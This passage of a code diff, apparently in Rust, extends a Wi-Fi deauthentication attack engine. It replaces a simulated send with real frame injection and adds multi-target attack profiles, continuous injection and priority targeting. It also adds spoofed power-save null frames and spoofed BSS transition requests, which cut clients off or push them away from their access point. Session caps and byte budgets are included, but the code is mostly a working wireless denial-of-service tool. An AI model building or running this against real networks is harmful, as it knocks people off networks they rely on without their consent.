+                                if let Some(ref tracker) = request.tracker {
+                                    tracker.record(request.target, 0, false);
+                                }
+                                if let DeauthError::SendBufferFull(_) = e {
+                                    warn!("Worker {}: Send buffer still full after backing off; consider lowering max_rate_per_worker", worker_id);
+                                    warnings.push(
+                                        WarningCategory::Injection,
+                                        "Send buffer still full after backing off; consider lowering max_rate_per_worker",
+                                    );
+                                } else {
+                                    warn!("Worker {}: Injection failed: {}", worker_id, e);
+                                }
+                            }
                         }
+                        
+                        if let Some(ref mut ramp) = ramp_up {
+                            ramp.mark_busy();
+                        }
+                        request.round = request.round.wrapping_add(1);
+                    }
+                    
+                    if request.tracker.is_none() {
+                        // No subscribers is not an error
+                        let _ = events_tx.send(Event::RequestCompleted {
+                            target: request.target,
+                            sent,
+                            failed,
+                        });
                     }
                     
-                    last_injection = Instant::now();
+                    stop_state.in_flight.fetch_sub(1, Ordering::SeqCst);
                 } else {
                     // No work available, yield CPU
+                    let idle_start = Instant::now();
                     thread::yield_now();
+                    counters.add_idle(idle_start.elapsed());
                 }
             }
             
@@ -207,12 +1014,69 @@ impl DeauthEngine {
         Ok(handle)
     }
     
+    /// Start the task executing control commands
+    ///
+    /// The dispatcher is the control channel's only consumer, so commands
+    /// take effect in the order they were sent.
+    fn start_dispatcher(&self, mut control_rx: mpsc::Receiver<EngineCommand>) {
+        let request_queue = Arc::clone(&self.request_queue);
+        let metrics_collector = Arc::clone(&self.metrics_collector);
+        let stop_state = Arc::clone(&self.stop_state);
+        
+        tokio::spawn(async move {
+            while let Some(command) = control_rx.recv().await {
+                match command {
+                    EngineCommand::StartInjection(request) => request_queue.push(request),
+                    EngineCommand::StartBatch(requests) => {
+                        for request in requests {
+                            request_queue.push(request);
+                        }
+                    }
+                    EngineCommand::StopInjection => {
+                        // Running requests, continuous ones included, stop before their next frame
+                        request_queue.stop();
+                        
+                        let mut dropped = 0usize;
+                        while let Some(request) = request_queue.pop() {
+                            if let Some(tracker) = request.tracker {
+                                tracker.skip();
+                            }
+                            dropped += 1;
+                        }
+                        info!("Stopped injection, dropped {} queued requests", dropped);
+                    }
+                    EngineCommand::GetMetrics(reply) => {
+                        let update = MetricsUpdate {
+                            timestamp: Instant::now(),
+                            metrics: metrics_collector.calculate_metrics(),
+                        };
+                        // The caller may have given up waiting
+                        let _ = reply.send(update);
+                    }
+                    EngineCommand::Shutdown => break,
+                }
+            }
+            
+            debug!("Command dispatcher stopped");
+        });
+    }
+    
     /// Start metrics collection background task
     fn start_metrics_task(&self) {
         let metrics_collector = Arc::clone(&self.metrics_collector);
         let metrics_tx = self.metrics_tx.clone();
         let running = Arc::clone(&self.running);
         
+        let mut journal = self.config.metrics_journal.as_ref().and_then(|path| {
+            MetricsJournal::create(path)
+                .map_err(|e| {
+                    warn!("Metrics journal disabled: {}", e);
+                    self.warnings.push(WarningCategory::Configuration, format!("Metrics journal disabled: {}", e));
+                })
+                .ok()
+        });
+        let warnings = self.warnings.clone();
+        
         tokio::spawn(async move {
             let mut interval = tokio::time::interval(Duration::from_millis(100));
             
@@ -220,6 +1084,18 @@ impl DeauthEngine {
                 interval.tick().await;
                 
                 let metrics = metrics_collector.calculate_metrics();
+                
+                if let Some(ref mut writer) = journal {
+                    if let Err(e) = writer.append(&metrics) {
+                        warn!("Metrics journal disabled after write failure: {}", e);
+                        warnings.push(
+                            WarningCategory::Configuration,
+                            format!("Metrics journal disabled after write failure: {}", e),
+                        );
+                        journal = None;
+                    }
+                }
+                
                 let update = MetricsUpdate {
                     timestamp: Instant::now(),
                     metrics,
@@ -233,20 +1109,31 @@ impl DeauthEngine {
     }
     
     /// Submit an injection request
+    ///
+    /// `None` for `reason_code` uses the configured `default_reason_code`. A
+    /// `count` of 0 injects continuously every `interval` until
+    /// `stop_injection` or `shutdown`, and occupies one worker meanwhile.
     pub async fn inject_deauth(
         &self,
         target: MacAddress,
         access_point: MacAddress,
-        reason_code: u16,
+        reason_code: Option<ReasonCode>,
         count: u32,
         interval: Duration,
     ) -> Result<()> {
+        self.check_accepting()?;
+        
         let request = InjectionRequest {
             target,
             access_point,
-            reason_code,
+            reason_code: reason_code.unwrap_or(self.config.default_reason_code),
             count,
             interval,
+            reason_codes: Arc::from(Vec::new()),
+            round: 0,
+            mode: FrameMode::Deauth,
+            tracker: None,
+            priority: Priority::Normal,
         };
         
         self.control_tx.send(EngineCommand::StartInjection(request))
@@ -256,32 +1143,594 @@ impl DeauthEngine {
         Ok(())
     }
     
-    /// Stop all injections
-    pub async fn stop_injection(&self) -> Result<()> {
-        self.control_tx.send(EngineCommand::StopInjection)
-            .await
-            .map_err(|e| DeauthError::InjectionError(format!("Failed to stop injection: {}", e)))?;
+    /// Submit an advanced power-save injection request
+    ///
+    /// Sends `count` QoS Null frames spoofed from `client` with the power
+    /// management bit set, so `access_point` holds back the client's traffic.
+    /// Fails unless `allow_advanced_frames` is enabled in the configuration.
+    pub async fn inject_power_save_nulls(
+        &self,
+        client: MacAddress,
+        access_point: MacAddress,
+        count: u32,
+        interval: Duration,
+    ) -> Result<()> {
+        if !self.config.allow_advanced_frames {
+            return Err(DeauthError::ConfigError(
+                "Power-save null frames are an advanced technique; enable allow_advanced_frames".to_string(),
+            ));
+        }
+        self.check_accepting()?;
         
-        Ok(())
-    }
-    
-    /// Get current metrics
-    pub async fn get_metrics(&self) -> Result<super::metrics::Metrics> {
-        let (tx, rx) = oneshot::channel();
+        warn!("Injecting power-save null frames as {} towards {}", client, access_point);
+        let request = InjectionRequest {
+            target: client,
+            access_point,
+            reason_code: self.config.default_reason_code,
+            count,
+            interval,
+            reason_codes: Arc::from(Vec::new()),
+            round: 0,
+            mode: FrameMode::PowerSaveNull,
+            tracker: None,
+            priority: Priority::Normal,
+        };
         
-        self.control_tx.send(EngineCommand::GetMetrics(tx))
+        self.control_tx.send(EngineCommand::StartInjection(request))
             .await
-            .map_err(|e| DeauthError::InjectionError(format!("Failed to get metrics: {}", e)))?;
-        
-        let update = rx.await
-            .map_err(|e| DeauthError::InjectionError(format!("Metrics request failed: {}", e)))?;
+            .map_err(|e| DeauthError::InjectionError(format!("Failed to submit request: {}", e)))?;
         
-        Ok(update.metrics)
+        Ok(())
     }
     
-    /// Subscribe to metrics updates
-    pub fn subscribe_metrics(&self) -> broadcast::Receiver<MetricsUpdate> {
-        self.metrics_tx.subscribe()
+    /// Submit an advanced BSS transition injection request
+    ///
+    /// Sends `count` WNM BSS Transition Management Requests spoofed from
+    /// `access_point`, telling `client` it is about to be disassociated so it
+    /// roams away without a deauthentication. Clients using Protected
+    /// Management Frames drop these, see `ActionFramePacket`. Fails unless
+    /// `allow_advanced_frames` is enabled in the configuration.
+    pub async fn inject_bss_transition(
+        &self,
+        client: MacAddress,
+        access_point: MacAddress,
+        count: u32,
+        interval: Duration,
+    ) -> Result<()> {
+        if !self.config.allow_advanced_frames {
+            return Err(DeauthError::ConfigError(
+                "BSS transition requests are an advanced technique; enable allow_advanced_frames".to_string(),
+            ));
+        }
+        self.check_accepting()?;
+        
+        warn!("Injecting BSS transition requests as {} towards {}", access_point, client);
+        let request = InjectionRequest {
+            target: client,
+            access_point,
+            reason_code: self.config.default_reason_code,
+            count,
+            interval,
+            reason_codes: Arc::from(Vec::new()),
+            round: 0,
+            mode: FrameMode::BssTransition,
+            tracker: None,
+            priority: Priority::Normal,
+        };
+        
+        self.control_tx.send(EngineCommand::StartInjection(request))
+            .await
+            .map_err(|e| DeauthError::InjectionError(format!("Failed to submit request: {}", e)))?;
+        
+        Ok(())
+    }
+    
+    /// Submit several injection requests at once, each with its own reason code and count
+    ///
+    /// The batch is all-or-nothing: every request is checked first and, if any
+    /// is rejected, none are queued and the valid ones are reported as
+    /// `Withheld`. Fails outright if the engine is not accepting requests or
+    /// the batch covers more than `max_targets` targets. An accepted batch is
+    /// queued whole, after every request submitted before it.
+    pub async fn inject_batch(&self, requests: Vec<InjectionRequest>) -> Result<Vec<BatchStatus>> {
+        self.check_accepting()?;
+        
+        let targets: HashSet<MacAddress> = requests.iter().map(|request| request.target).collect();
+        if targets.len() > self.config.max_targets {
+            return Err(DeauthError::ConfigError(format!(
+                "Batch has {} targets, engine allows at most {}",
+                targets.len(), self.config.max_targets
+            )));
+        }
+        
+        let rejections: Vec<Option<String>> = requests.iter().map(|request| self.check_batch_request(request)).collect();
+        if rejections.iter().any(Option::is_some) {
+            warn!("Batch of {} requests rejected", requests.len());
+            return Ok(rejections
+                .into_iter()
+                .map(|rejection| rejection.map_or(BatchStatus::Withheld, BatchStatus::Rejected))
+                .collect());
+        }
+        
+        info!("Queueing batch of {} requests", requests.len());
+        let statuses = vec![BatchStatus::Accepted; requests.len()];
+        self.control_tx.send(EngineCommand::StartBatch(requests))
+            .await
+            .map_err(|e| DeauthError::InjectionError(format!("Failed to submit batch: {}", e)))?;
+        Ok(statuses)
+    }
+    
+    /// Service requests for `targets` ahead of all others
+    ///
+    /// Replaces any previous set, e.g. with `TargetManager::starred_targets`.
+    /// Requests already queued keep their priority.
+    pub fn set_priority_targets(&self, targets: impl IntoIterator<Item = MacAddress>) {
+        let targets: HashSet<MacAddress> = targets.into_iter().collect();
+        info!("{} priority targets", targets.len());
+        self.request_queue.set_priority_targets(targets);
+    }
+    
+    /// Reason a batched request cannot be queued, if any
+    fn check_batch_request(&self, request: &InjectionRequest) -> Option<String> {
+        // Group addresses never transmit, so no station accepts frames from one
+        if request.access_point.bytes()[0] & 0x01 != 0 {
+            return Some(format!("access point {} is a group address", request.access_point));
+        }
+        
+        if !self.config.allow_advanced_frames {
+            match request.mode {
+                FrameMode::Deauth => {}
+                FrameMode::PowerSaveNull => return Some("power-save null frames require allow_advanced_frames".to_string()),
+                FrameMode::BssTransition => return Some("BSS transition requests require allow_advanced_frames".to_string()),
+            }
+        }
+        
+        None
+    }
+    
+    /// Estimate the frames, duration and rate of `profile` on this engine
+    ///
+    /// Meant to be shown before launching, so an accidentally huge attack can
+    /// be caught; see `AttackEstimate::is_large`.
+    pub fn estimate(&self, profile: &AttackProfile) -> AttackEstimate {
+        AttackEstimate::new(profile, self.config.aggregate_rate())
+    }
+    
+    /// Run an attack profile on the worker pool
+    ///
+    /// The engine must be started. The returned handle resolves to a summary
+    /// once every frame has been processed or the attack is stopped.
+    pub fn run_profile(&self, profile: AttackProfile) -> Result<AttackHandle> {
+        self.run_profile_with_token(profile, CancellationToken::new())
+    }
+    
+    /// Run an attack profile that stops when `cancel` is cancelled
+    ///
+    /// Cancellation is checked between frames, so queued frames are dropped
+    /// and the summary reflects only what was actually processed.
+    pub fn run_profile_with_token(&self, profile: AttackProfile, cancel: CancellationToken) -> Result<AttackHandle> {
+        profile.validate(self.config.max_targets)?;
+        self.check_accepting()?;
+        self.check_channel(&profile);
+        
+        info!(
+            "Running attack profile: {} targets, {} frames each",
+            profile.targets.len(), profile.frames_per_target
+        );
+        
+        let reason_code = profile.reason_code.unwrap_or(self.config.default_reason_code);
+        let reason_codes: Arc<[ReasonCode]> = Arc::from(profile.reason_codes.clone());
+        let tracker = Arc::new(AttackTracker::new(cancel));
+        let task_tracker = Arc::clone(&tracker);
+        let request_queue = Arc::clone(&self.request_queue);
+        let metrics_collector = Arc::clone(&self.metrics_collector);
+        let running = Arc::clone(&self.running);
+        let stop_state = Arc::clone(&self.stop_state);
+        let events_tx = self.events_tx.clone();
+        
+        let task = tokio::spawn(async move {
+            metrics_collector.set_active_targets(profile.targets.len());
+            
+            // Reported per target MAC, like the summary's per-target breakdown
+            let mut seen = HashSet::new();
+            let reported: Vec<MacAddress> = profile
+                .targets
+                .iter()
+                .map(|target| target.target)
+                .filter(|&target| seen.insert(target))
+                .collect();
+            for &target in &reported {
+                // No subscribers is not an error
+                let _ = events_tx.send(Event::RequestStarted { target, count: profile.frames_per_target });
+            }
+            
+            'rounds: for round in 0..profile.frames_per_target {
+                for target in &profile.targets {
+                    if task_tracker.is_stopped() || !running.load(Ordering::Relaxed) {
+                        break 'rounds;
+                    }
+                    
+                    if stop_state.is_draining() {
+                        task_tracker.stop();
+                        break 'rounds;
+                    }
+                    
+                    task_tracker.add_pending();
+                    request_queue.push(InjectionRequest {
+                        target: target.target,
+                        access_point: target.access_point,
+                        reason_code,
+                        count: 1,
+                        interval: profile.interval,
+                        reason_codes: Arc::clone(&reason_codes),
+                        round,
+                        mode: FrameMode::Deauth,
+                        tracker: Some(Arc::clone(&task_tracker)),
+                        priority: Priority::Normal,
+                    });
+                }
+                
+                if !profile.interval.is_zero() {
+                    let cancelled = tokio::select! {
+                        _ = task_tracker.cancellation_token().cancelled() => true,
+                        _ = tokio::time::sleep(profile.interval) => false,
+                    };
+                    
+                    if cancelled {
+                        break 'rounds;
+                    }
+                }
+            }
+            
+            task_tracker.wait_idle(&running).await;
+            metrics_collector.set_active_targets(0);
+            
+            for target in reported {
+                let (sent, failed) = task_tracker.outcome(target);
+                let _ = events_tx.send(Event::RequestCompleted { target, sent, failed });
+            }
+            
+            let summary = task_tracker.summary();
+            info!(
+                "Attack finished: {} packets, {:.1}% success in {:?}",
+                summary.total_packets, summary.success_rate * 100.0, summary.duration
+            );
+            summary
+        });
+        
+        Ok(AttackHandle { tracker, task })
+    }
+    
+    /// Stop all injection once `max_session_duration` has passed since start
+    fn start_session_timer(&self, max_session_duration: Duration) {
+        let request_queue = Arc::clone(&self.request_queue);
+        let stop_state = Arc::clone(&self.stop_state);
+        let running = Arc::clone(&self.running);
+        let events_tx = self.events_tx.clone();
+        let warnings = self.warnings.clone();
+        let started = Instant::now();
+        
+        tokio::spawn(async move {
+            // Woken periodically so a shut down engine does not keep the task alive
+            while started.elapsed() < max_session_duration {
+                if !running.load(Ordering::Relaxed) {
+                    return;
+                }
+                let remaining = max_session_duration.saturating_sub(started.elapsed());
+                tokio::time::sleep(remaining.min(Duration::from_millis(100))).await;
+            }
+            
+            stop_state.expired.store(true, Ordering::SeqCst);
+            while let Some(request) = request_queue.pop() {
+                if let Some(tracker) = request.tracker {
+                    tracker.skip();
+                }
+            }
+            
+            let elapsed = started.elapsed();
+            warn!("Session cap of {:?} reached; injection stopped", max_session_duration);
+            warnings.push(
+                WarningCategory::Configuration,
+                format!("Session cap of {:?} reached; injection stopped", max_session_duration),
+            );
+            
+            // No subscribers is not an error
+            let _ = events_tx.send(Event::SessionExpired { elapsed });
+        });
+    }
+    
+    /// Refuse new requests while a graceful stop is draining or after the session cap
+    fn check_accepting(&self) -> Result<()> {
+        if self.stop_state.is_expired() {
+            return Err(DeauthError::InjectionError("Session cap reached; request refused".to_string()));
+        }
+        
+        if self.stop_state.is_budget_exhausted() {
+            return Err(DeauthError::InjectionError("Byte budget exhausted; request refused".to_string()));
+        }
+        
+        if self.stop_state.is_draining() {
+            return Err(DeauthError::InjectionError("Injection is stopping; request refused".to_string()));
+        }
+        
+        Ok(())
+    }
+    
+    /// Warn if the interface is tuned away from the profile's channel
+    ///
+    /// Frames sent on the wrong channel never reach the targets, so this emits
+    /// `Event::ChannelMismatch`. Unknown channels on either side are not checked.
+    fn check_channel(&self, profile: &AttackProfile) {
+        let Some(interface) = &self.interface else {
+            return;
+        };
+        
+        if let (Some(interface_channel), Some(target_channel)) = (interface.current_channel, profile.channel) {
+            if interface_channel != target_channel {
+                let message = format!(
+                    "Interface {} is on channel {} but targets are on channel {}",
+                    interface.name, interface_channel, target_channel
+                );
+                warn!("{}", message);
+                self.warnings.push(WarningCategory::Channel, message);
+                
+                // No subscribers is not an error
+                let _ = self.events_tx.send(Event::ChannelMismatch {
+                    interface: interface.name.clone(),
+                    interface_channel,
+                    target_channel,
+                });
+            }
+        }
+    }
+    
+    /// Exercise frame building, the buffer pool and metrics without touching the network
+    ///
+    /// Metrics are recorded on a scratch collector so the engine's own
+    /// counters are left untouched.
+    pub fn self_test(&self) -> SelfTestReport {
+        info!("Running engine self-test");
+        
+        let mut report = SelfTestReport::default();
+        let target = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x01]);
+        let access_point = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x02]);
+        let packet = DeauthPacket::new(target, access_point, access_point, super::packet::reason_codes::UNSPECIFIED);
+        let packet_bytes = packet.to_bytes();
+        
+        // Packet build
+        match super::packet::strip_radiotap(&packet_bytes) {
+            Some(frame) if frame.len() == super::packet::DEAUTH_FRAME_LEN
+                && frame[0] == 0xC0
+                && frame[4..10] == target.bytes() => report.packet_build = true,
+            _ => report.failures.push(format!("Malformed deauthentication frame: {:02X?}", packet_bytes.as_ref())),
+        }
+        
+        // Buffer pool
+        match self.buffer_pool.acquire() {
+            Some(mut buffer) => {
+                packet.write_to(&mut buffer);
+                if buffer.as_ref() == packet_bytes.as_ref() {
+                    report.buffer_pool = true;
+                } else {
+                    report.failures.push("Pooled buffer contents differ from serialized frame".to_string());
+                }
+                self.buffer_pool.release(buffer);
+            }
+            None => report.failures.push("Buffer pool returned no buffer".to_string()),
+        }
+        
+        // Metrics
+        let collector = MetricsCollector::new(self.config.metrics_window);
+        for _ in 0..SELF_TEST_FRAMES {
+            collector.record_injection(packet_bytes.len(), true, Duration::from_micros(10));
+        }
+        
+        let metrics = collector.calculate_metrics();
+        if metrics.packets_injected == SELF_TEST_FRAMES
+            && metrics.bytes_transmitted == SELF_TEST_FRAMES * packet_bytes.len() as u64
+            && (metrics.success_rate - 1.0).abs() < f64::EPSILON
+        {
+            report.metrics = true;
+        } else {
+            report.failures.push(format!(
+                "Metrics mismatch: {} packets, {} bytes, {:.2} success rate",
+                metrics.packets_injected, metrics.bytes_transmitted, metrics.success_rate
+            ));
+        }
+        
+        info!("Engine self-test {}", if report.passed() { "passed" } else { "failed" });
+        report
+    }
+    
+    /// Check that a deauthentication frame survives injection and capture unchanged
+    ///
+    /// The frame is serialized through the workers' buffer path, injected into
+    /// a `LoopbackChannel`, captured and compared byte for byte with a fixed
+    /// known-good frame, catching frame layout regressions.
+    pub fn verify_frame_integrity(&self) -> Result<()> {
+        let loopback = LoopbackChannel::new();
+        self.verify_frame_integrity_with(&loopback, &loopback)
+    }
+    
+    /// Like `verify_frame_integrity`, over any injector and capture source
+    ///
+    /// Frames not addressed like the test frame are skipped, so this also works
+    /// on a live interface. Radiotap headers and a trailing FCS added by the
+    /// driver are ignored.
+    pub fn verify_frame_integrity_with(&self, injector: &dyn Injector, source: &dyn CaptureSource) -> Result<()> {
+        let request = InjectionRequest {
+            target: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x01]),
+            access_point: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x02]),
+            reason_code: super::packet::reason_codes::CLASS3_FRAME_FROM_NONASSOC_STA,
+            count: 1,
+            interval: Duration::ZERO,
+            reason_codes: Arc::from(Vec::new()),
+            round: 0,
+            mode: FrameMode::Deauth,
+            tracker: None,
+            priority: Priority::Normal,
+        };
+        
+        process_injection_request(&request, &self.buffer_pool, &self.frame_templates, injector)?;
+        
+        for _ in 0..INTEGRITY_MAX_CAPTURES {
+            let Some(capture) = source.capture_packet()? else {
+                break;
+            };
+            
+            let Some(frame) = super::packet::strip_radiotap(&capture.data) else {
+                continue;
+            };
+            if frame.get(4..10) == Some(&request.target.bytes()[..])
+                && frame.get(10..16) == Some(&request.access_point.bytes()[..])
+            {
+                return compare_frames(&INTEGRITY_FRAME, &capture.data);
+            }
+        }
+        
+        Err(DeauthError::InjectionError("Injected frame was not captured".to_string()))
+    }
+    
+    /// Report worker liveness, queue depth, buffer use and interface presence
+    pub fn health(&self) -> HealthReport {
+        let workers_alive = self.workers.iter().filter(|worker| !worker.is_finished()).count();
+        
+        // Failing to list devices says nothing about whether the interface is gone
+        let interface_present = self.interface.as_ref().and_then(|interface| {
+            match pcap::Device::list() {
+                Ok(devices) => Some(devices.iter().any(|device| device.name == interface.name)),
+                Err(e) => {
+                    warn!("Failed to list devices for health check: {}", e);
+                    None
+                }
+            }
+        });
+        
+        let report = HealthReport {
+            running: self.running.load(Ordering::Relaxed),
+            workers_alive,
+            workers_total: self.config.worker_threads,
+            queue_depth: self.request_queue.len(),
+            buffer_utilization: self.buffer_pool.stats().utilization(),
+            since_last_injection: self.metrics_collector.last_injection().map(|at| at.elapsed()),
+            interface_present,
+        };
+        
+        if !report.healthy() {
+            warn!("Engine unhealthy: {:?}", report);
+        }
+        report
+    }
+    
+    /// Stop all injections
+    ///
+    /// Queued requests are dropped and running ones, including continuous
+    /// requests, stop before their next frame.
+    pub async fn stop_injection(&self) -> Result<()> {
+        self.control_tx.send(EngineCommand::StopInjection)
+            .await
+            .map_err(|e| DeauthError::InjectionError(format!("Failed to stop injection: {}", e)))?;
+        
+        Ok(())
+    }
+    
+    /// Stop injecting once the requests already executing have finished
+    ///
+    /// New requests are refused and queued ones dropped while draining, but a
+    /// request a worker has started sends its full `count` so metrics and
+    /// captures are not cut mid-burst. Bursts still running after `timeout`
+    /// are cut short between frames. Returns whether every in-flight request
+    /// finished in time; the engine accepts requests again afterwards.
+    pub async fn stop_injection_graceful(&self, timeout: Duration) -> Result<bool> {
+        info!("Draining {} in-flight requests", self.stop_state.in_flight.load(Ordering::SeqCst));
+        self.stop_state.draining.store(true, Ordering::SeqCst);
+        
+        let drained = tokio::time::timeout(timeout, self.stop_state.wait_idle()).await.is_ok();
+        if !drained {
+            warn!("In-flight requests still running after {:?}; cutting them short", timeout);
+            self.stop_state.abort.store(true, Ordering::SeqCst);
+            self.stop_state.wait_idle().await;
+        }
+        
+        // Requests no worker picked up yet are dropped
+        while let Some(request) = self.request_queue.pop() {
+            if let Some(tracker) = request.tracker {
+                tracker.skip();
+            }
+        }
+        
+        self.stop_state.abort.store(false, Ordering::SeqCst);
+        self.stop_state.draining.store(false, Ordering::SeqCst);
+        
+        info!("Injection stopped gracefully");
+        Ok(drained)
+    }
+    
+    /// Get current metrics
+    pub async fn get_metrics(&self) -> Result<super::metrics::Metrics> {
+        let (tx, rx) = oneshot::channel();
+        
+        self.control_tx.send(EngineCommand::GetMetrics(tx))
+            .await
+            .map_err(|e| DeauthError::InjectionError(format!("Failed to get metrics: {}", e)))?;
+        
+        let update = rx.await
+            .map_err(|e| DeauthError::InjectionError(format!("Metrics request failed: {}", e)))?;
+        
+        Ok(update.metrics)
+    }
+    
+    /// Generate a random locally administered address from the engine's RNG
+    pub fn random_mac(&self) -> MacAddress {
+        super::packet::random_mac(&mut *self.rng.lock())
+    }
+    
+    /// Get per-worker counters, indexed by worker id
+    ///
+    /// A worker with far fewer packets or far more idle time than its peers
+    /// points at an imbalance worth tuning `worker_threads` for.
+    pub fn worker_metrics(&self) -> Vec<WorkerMetrics> {
+        self.worker_counters
+            .iter()
+            .enumerate()
+            .map(|(worker_id, counters)| counters.snapshot(worker_id))
+            .collect()
+    }
+    
+    /// Get the buffer pool used by this engine
+    pub fn buffer_pool(&self) -> Arc<PacketBuffer> {
+        Arc::clone(&self.buffer_pool)
+    }
+    
+    /// Subscribe to metrics updates
+    pub fn subscribe_metrics(&self) -> broadcast::Receiver<MetricsUpdate> {
+        self.metrics_tx.subscribe()
+    }
+    
+    /// Handle for reporting warnings alongside the engine's own
+    ///
+    /// Setup code outside the engine (platform checks, injector setup) records
+    /// through this so everything reaches the user via `take_warnings`.
+    pub fn warnings(&self) -> Warnings {
+        self.warnings.clone()
+    }
+    
+    /// Remove and return the warnings recorded so far, oldest first
+    pub fn take_warnings(&self) -> Vec<Warning> {
+        self.warnings.take()
+    }
+    
+    /// Remove and return the frames injected so far, oldest first
+    ///
+    /// Empty unless `EngineConfig::record_injected_frames` is set. Each frame
+    /// carries its radiotap header and the time it was sent.
+    pub fn take_injected_frames(&self) -> Vec<CaptureResult> {
+        self.injected_frames.as_ref().map_or_else(Vec::new, |log| log.take())
+    }
+    
+    /// Subscribe to engine events
+    pub fn subscribe_events(&self) -> broadcast::Receiver<Event> {
+        self.events_tx.subscribe()
     }
     
     /// Shutdown the engine
@@ -301,74 +1750,552 @@ impl DeauthEngine {
             }
         }
         
+        let _ = self.events_tx.send(Event::EngineStopped);
         info!("Deauthentication engine shutdown complete");
         Ok(())
     }
 }
 
+impl Drop for DeauthEngine {
+    /// Stop and join the workers so a dropped engine never leaks threads
+    fn drop(&mut self) {
+        self.running.store(false, Ordering::Relaxed);
+        
+        for worker in self.workers.drain(..) {
+            if worker.join().is_err() {
+                error!("Worker thread panicked");
+            }
+        }
+    }
+}
+
+/// Bytes handed to the injector, reserved against a fixed budget before each send
+///
+/// Reserving before the send keeps concurrent workers from overshooting the
+/// budget between sending a frame and counting it.
+#[derive(Debug)]
+struct ByteBudget {
+    limit: u64,
+    reserved: AtomicU64,
+}
+
+impl ByteBudget {
+    fn new(limit: u64) -> Self {
+        Self {
+            limit,
+            reserved: AtomicU64::new(0),
+        }
+    }
+    
+    /// Reserve `len` bytes, failing if they do not fit in what is left
+    fn reserve(&self, len: usize) -> bool {
+        self.reserved
+            .fetch_update(Ordering::SeqCst, Ordering::SeqCst, |reserved| {
+                reserved.checked_add(len as u64).filter(|&total| total <= self.limit)
+            })
+            .is_ok()
+    }
+    
+    /// Return a reservation whose frame was not sent
+    fn release(&self, len: usize) {
+        self.reserved.fetch_sub(len as u64, Ordering::SeqCst);
+    }
+    
+    /// Whether the whole budget has been used up
+    fn is_spent(&self) -> bool {
+        self.reserved.load(Ordering::SeqCst) >= self.limit
+    }
+}
+
+/// Stop all injection once the byte budget has run out
+///
+/// Only the worker that trips the budget drains the queue and reports it.
+fn exhaust_byte_budget(
+    budget: &ByteBudget,
+    metrics_collector: &MetricsCollector,
+    stop_state: &StopState,
+    request_queue: &RequestQueue,
+    warnings: &Warnings,
+    events_tx: &broadcast::Sender<Event>,
+) {
+    if stop_state.budget_exhausted.swap(true, Ordering::SeqCst) {
+        return;
+    }
+    let bytes_transmitted = metrics_collector.bytes_transmitted();
+    
+    while let Some(request) = request_queue.pop() {
+        if let Some(tracker) = request.tracker {
+            tracker.skip();
+        }
+    }
+    
+    warn!("Byte budget of {} reached; injection stopped", budget.limit);
+    warnings.push(
+        WarningCategory::Configuration,
+        format!("Byte budget of {} reached; injection stopped", budget.limit),
+    );
+    
+    // No subscribers is not an error
+    let _ = events_tx.send(Event::ByteBudgetExhausted { bytes_transmitted });
+}
+
+/// Longest a worker sleeps before rechecking whether to stop
+const STOP_POLL_INTERVAL: Duration = Duration::from_millis(10);
+
+/// Sleep for `duration` in short slices, returning early once `keep_going` is false
+///
+/// Keeps long request intervals from delaying a stop, shutdown or a dropped
+/// engine's join. Returns whether the full duration elapsed.
+fn sleep_while(duration: Duration, keep_going: impl Fn() -> bool) -> bool {
+    let deadline = Instant::now() + duration;
+    
+    loop {
+        if !keep_going() {
+            return false;
+        }
+        
+        let now = Instant::now();
+        if now >= deadline {
+            return true;
+        }
+        thread::sleep((deadline - now).min(STOP_POLL_INTERVAL));
+    }
+}
+
 /// Process a single injection request
 fn process_injection_request(
     request: &InjectionRequest,
     buffer_pool: &Arc<PacketBuffer>,
+    frame_templates: &FrameTemplateCache,
+    injector: &dyn Injector,
 ) -> Result<usize> {
-    let mut total_bytes = 0;
-    
+    with_request_frame(request, buffer_pool, frame_templates, |frame| injector.inject_frame(frame))?
+}
+
+/// Build the request's frame into a pooled buffer and hand it to `send`
+fn with_request_frame<T>(
+    request: &InjectionRequest,
+    buffer_pool: &Arc<PacketBuffer>,
+    frame_templates: &FrameTemplateCache,
+    send: impl FnOnce(&[u8]) -> T,
+) -> Result<T> {
     // Get buffer from pool
     let mut buffer = buffer_pool.acquire()
         .ok_or_else(|| DeauthError::InjectionError("Buffer pool exhausted".to_string()))?;
     
-    // Create deauth packet
-    let packet = DeauthPacket::new(
-        request.target,
-        request.access_point,
-        request.access_point,
-        request.reason_code,
-    );
-    
-    // Serialize packet
-    let packet_bytes = packet.to_bytes();
-    let packet_size = packet_bytes.len();
+    // Copy the request's frame into the pooled buffer, serializing it only the first time
+    let sequence_number = (request.round & 0x0FFF) as u16;
+    frame_templates.write_frame(request.frame_key(), sequence_number, &mut buffer, || match request.mode {
+        FrameMode::Deauth => request.build_packet().to_bytes(),
+        FrameMode::PowerSaveNull => request.build_null_frame().to_bytes(),
+        FrameMode::BssTransition => request.build_bss_transition().to_bytes(),
+    });
     
-    // Simulate packet injection (this would be replaced with actual network code)
-    // For now, we'll just log and return success
-    debug!("Would inject {} bytes for target {}", packet_size, request.target);
-    
-    total_bytes += packet_size;
+    let result = send(&buffer);
     
     // Return buffer to pool
     buffer_pool.release(buffer);
     
-    Ok(total_bytes)
+    Ok(result)
 }
 
-/// Rate limiter for injection control
-pub struct RateLimiter {
-    max_rate: u32,
-    tokens: Arc<AtomicU64>,
-    last_refill: Arc<RwLock<Instant>>,
+/// Compare an 802.11 frame with its capture, ignoring the capture's radiotap header and a trailing FCS
+fn compare_frames(expected: &[u8], captured: &[u8]) -> Result<()> {
+    let Some(captured) = super::packet::strip_radiotap(captured) else {
+        return Err(DeauthError::InjectionError("Frame has no valid radiotap header".to_string()));
+    };
+    
+    let captured = if captured.len() == expected.len() + FCS_LEN {
+        &captured[..expected.len()]
+    } else {
+        captured
+    };
+    
+    if captured.len() != expected.len() {
+        return Err(DeauthError::InjectionError(format!(
+            "Captured frame is {} bytes, built frame is {}",
+            captured.len(), expected.len()
+        )));
+    }
+    
+    match expected.iter().zip(captured).position(|(built, seen)| built != seen) {
+        Some(offset) => Err(DeauthError::InjectionError(format!(
+            "Captured frame differs at byte {}: built {:02X}, captured {:02X}",
+            offset, expected[offset], captured[offset]
+        ))),
+        None => Ok(()),
+    }
 }
 
-impl RateLimiter {
-    pub fn new(max_rate: u32) -> Self {
+/// Injected frames kept for export, up to a fixed count
+#[derive(Debug)]
+struct InjectedFrameLog {
+    frames: Mutex<Vec<CaptureResult>>,
